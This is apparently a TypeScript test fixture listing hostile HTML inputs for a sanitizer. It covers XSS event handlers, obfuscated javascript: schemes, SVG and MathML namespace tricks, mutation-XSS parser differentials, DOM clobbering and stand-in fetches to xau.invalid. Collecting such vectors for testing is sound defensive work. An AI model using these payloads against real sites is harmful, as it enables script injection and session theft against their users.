/**
 * Markup that strangers try on those who show it. `pwned()` is what each would run; `/xau/` is what it would fetch. Sources:
 * OWASP's filter evasion sheet, PortSwigger's and DOMPurify's published vectors, and shapes of our own.
 */
const X = 'pwned()';
const U = 'https://xau.invalid/xau/';

const handlers = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'select autofocus onfocus'],
  ...['details open ontoggle', 'video src=x onerror', 'audio src=x onerror', 'marquee onstart', 'p onclick'],
  ...[
    'p tabindex=1 onfocus',
    'a href=# onmouseover',
    'div onpointerenter',
    'table background=x onload',
    'img src onload',
  ],
  ...[
    'iframe onload',
    'object onerror',
    'p style="animation:x" onanimationstart',
    'p contenteditable onblur',
    'b onbeforetoggle',
  ],
].map((start) => `<${start}="${X}">x`);

const schemes = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript&colon;',
  ],
  ...['&#106;avascript:', '&#x6A;avascript:', '&#0000106avascript:', 'jav&#x09;ascript:', 'jav&Tab;ascript&colon;'],
  ...[
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,',
    'blob:',
    'filesystem:',
    'file:///',
    'about:',
    'intent:',
    'ms-its:',
  ],
  ...['view-source:', 'feed:javascript:', 'https://a\u0000:javascript:', 'javascript://https://a.example/%0a'],
].flatMap((scheme) => [`<a href="${scheme}${X}">x</a>`, `<img src="${scheme}${X}">`]);

const tags = [
  ...[
    `<script>${X}</script>`,
    `<SCRIPT SRC=${U}a.js></SCRIPT>`,
    `<scr<script>ipt>${X}</script>`,
    `<script/x>${X}</script>`,
  ],
  ...[`<<script>${X}//<</script>`, `<script type=module>${X}</script>`, `<iframe src="javascript:${X}"></iframe>`],
  ...[
    `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
    `<object data="javascript:${X}"></object>`,
    `<embed src="${U}a.swf">`,
  ],
  ...[
    `<base href="${U}">`,
    `<link rel=stylesheet href="${U}a.css">`,
    `<meta http-equiv=refresh content="0;javascript:${X}">`,
  ],
  ...[
    `<form action="javascript:${X}"><button>x`,
    `<button formaction="javascript:${X}">x`,
    `<isindex type=image src=1 onerror=${X}>`,
  ],
  ...[
    `<frameset onload=${X}><frame src="${U}">`,
    `<applet code=a.class>`,
    `<dialog open onclose=${X}>x`,
    `<keygen autofocus onfocus=${X}>`,
  ],
  ...[
    `<template shadowrootmode=open><script>${X}</script></template>`,
    `<portal src="${U}"></portal>`,
    `<b is=portal-poll>x</b>`,
  ],
  ...[
    `<portal-article-card headline=x src="${U}"></portal-article-card>`,
    `<style>@import "${U}a.css";*{color:red}</style>`,
  ],
  ...[
    `<a href=x ping="${U}">x</a>`,
    `<a href=x target=_blank rel=opener>x</a>`,
    `<a href="https://a.example" download onclick=${X}>x</a>`,
  ],
  ...[
    `<source srcset="${U}a.png">`,
    `<picture><source srcset="${U}b.png"><img src=x></picture>`,
    `<video poster="${U}c.png">`,
  ],
  ...[
    `<track src="${U}a.vtt">`,
    `<map><area href="javascript:${X}"></map>`,
    `<canvas onclick=${X}></canvas>`,
    `<slot name=body>x</slot>`,
  ],
];

const css = [
  ...[
    `<p style="background:url(${U}a.png)">x`,
    `<p style="width:expression(${X})">x`,
    `<p style="-moz-binding:url(${U}a.xml)">x`,
  ],
  ...[
    `<p style="position:fixed;inset:0;z-index:9999">x`,
    `<div class="root dark" id="body" part="card" slot="headline">x</div>`,
  ],
  ...[
    `<table background="${U}b.png"><tr><td background="${U}c.png">x`,
    `<font color="red" face="x">x</font>`,
    `<img src=x style="behavior:url(${U})">`,
  ],
];

const foreign = [
  ...[
    `<svg><script>${X}</script></svg>`,
    `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,x#x"></use></svg>`,
  ],
  ...[
    `<svg><animate onbegin=${X} attributeName=x>`,
    `<svg><set attributeName=href to="javascript:${X}">`,
    `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`,
  ],
  ...[
    `<math><mtext><img src=x onerror=${X}></mtext></math>`,
    `<math><a href="javascript:${X}">x</a></math>`,
    `<math href="javascript:${X}">x</math>`,
  ],
  ...[
    `<math><maction actiontype="statusline#${X}" xlink:href="javascript:${X}">x</maction></math>`,
    `<svg><image href="${U}a.png"></svg>`,
  ],
  ...[
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${X}"/>`,
    `<annotation-xml encoding="text/html"><script>${X}</script></annotation-xml>`,
  ],
];

const mutation = [
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
    `<svg></p><style><a title="</style><img src=x onerror=${X}>">`,
  ],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`],
  ...[
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
    `<p><svg><desc><p></svg><img src=x onerror=${X}></p>`,
  ],
  ...[
    `<svg><title><p title="</title><img src=x onerror=${X}>">`,
    `<textarea><img title="</textarea><img src=x onerror=${X}>"></textarea>`,
  ],
  ...[
    `<title><img title="</title><img src=x onerror=${X}>"></title>`,
    `<xmp><p title="</xmp><img src=x onerror=${X}>"></xmp>`,
  ],
  ...[
    `<noembed><p title="</noembed><img src=x onerror=${X}>"></noembed>`,
    `<!--><img src=x onerror=${X}>-->`,
    `<!--[if IE]><script>${X}</script><![endif]-->`,
  ],
  ...[
    `<![CDATA[<img src=x onerror=${X}>]]>`,
    `<?xml-stylesheet href="javascript:${X}"?>`,
    `<a href="https://a.example" title="&quot;><img src=x onerror=${X}>">x</a>`,
  ],
  ...[
    `<img alt="\`><img src=x onerror=${X}>" src=x>`,
    `<p id=a\u0000b onclick\u0000=${X}>x`,
    `<img/src="x"/onerror="${X}">`,
    `<img src=x\u000conerror=${X}>`,
  ],
  ...[
    `<table><td><script>${X}</script><tr><img src=x onerror=${X}></table>`,
    `<select><template><img src=x onerror=${X}></template></select>`,
  ],
  ...[`<plaintext><img src=x onerror=${X}>`, `&lt;img src=x onerror=${X}&gt;`, `&amp;lt;script&amp;gt;${X}`],
];

const clobbering = [
  ...[
    '<form><input name=localName><input name=namespaceURI><input name=attributes><input name=childNodes><input name=nodeType></form>',
  ],
  ...[
    '<form name=body><b>x</b></form><img name=documentElement><img name=createElement>',
    '<a id=location href="https://xau.invalid/">x</a>',
  ],
  ...[
    '<img name=currentScript><form id=currentScript name=src>',
    '<form id=parentNode><input id=parentNode name=removeChild></form>',
  ],
  ...['<a id=defaultView name=defaultView>x</a><a id=defaultView name=location href="https://xau.invalid/">x</a>'],
];

const large = [
  `${'<b>'.repeat(20_000)}x`,
  `${'<div><p>'.repeat(3000)}<img src=x onerror=${X}>`,
  '<i>x</i>'.repeat(20_000),
  `<p title="${'x'.repeat(200_000)}">x`,
];

export const hostile: readonly string[] = [
  ...[...handlers, ...schemes, ...tags, ...css],
  ...[...foreign, ...mutation, ...clobbering, ...large],
];
